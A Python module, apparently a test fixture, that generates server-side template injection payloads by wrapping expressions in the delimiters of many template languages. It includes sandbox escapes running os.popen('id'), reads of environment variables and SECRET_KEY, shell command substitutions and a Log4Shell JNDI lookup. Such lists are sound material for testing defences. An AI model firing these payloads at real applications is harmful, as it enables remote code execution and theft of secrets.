"""Texts that some template language would work out."""

EXPRESSIONS = tuple(
    """
text
name
7*7
self
request
settings.SECRET_KEY
config
''.__class__.__mro__[1].__subclasses__()
cycler.__init__.__globals__.os.popen('id').read()
0.__class__
x|upper
constructor.constructor('1')()
__import__('os').environ
user.password
a.b.c
lipsum.__globals__
text}}{{text
> summarizer
""".strip().split("\n")
)
FRAMES = tuple(
    """
{{%s}}
{{ %s }}
{{{%s}}}
{%% print(%s) %%}
{%% include %s %%}
{# %s #}
${%s}
#{%s}
<%%= %s %%>
{%s}
{%s!r}
%%(%s)s
""".strip().split("\n")
)
"""Jinja, Django, Mustache, Nunjucks, JavaScript, Ruby, ERB, `str.format`, f-strings, `%`."""
WHOLE = tuple(
    """
{% load log %}{% get_admin_log 10 as log %}{% debug %}
{% for x in [].__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
{{#text}}{{/text}}
{{^text}}{{/text}}
{{&text}}
{{!text}}
{{>summarizer}}
{{> summarizer}}
{{= <% %> =}}<%text%>
{{
}}
{{}}
{{{{text}}}}
{{ {{text}} }}
{ {text} }
{{te
xt}}
{{text
text}}
{\u200b{text}}
\uff5b\uff5btext\uff5d\uff5d
{{\u00a0text}}
{{text\u2028}}
&#123;&#123;text&#125;&#125;
%7B%7Btext%7D%7D
\\{\\{text\\}\\}
{0}
{}
{0.__class__}
%s%s%s%n
%(text)s
$text
${jndi:ldap://x/a}
`id`
$(id)
<%= 7*7 %>
#set($x=1)$x
*{7*7}
@(1+1)
[[${7*7}]]
{{7*'7'}}
{php}echo 1;{/php}
{{range.constructor("return 1")()}}
~{text}
""".strip().split("\n")
)
PAYLOADS = tuple(
    dict.fromkeys([frame % expression for frame in FRAMES for expression in EXPRESSIONS] + [*WHOLE])
)
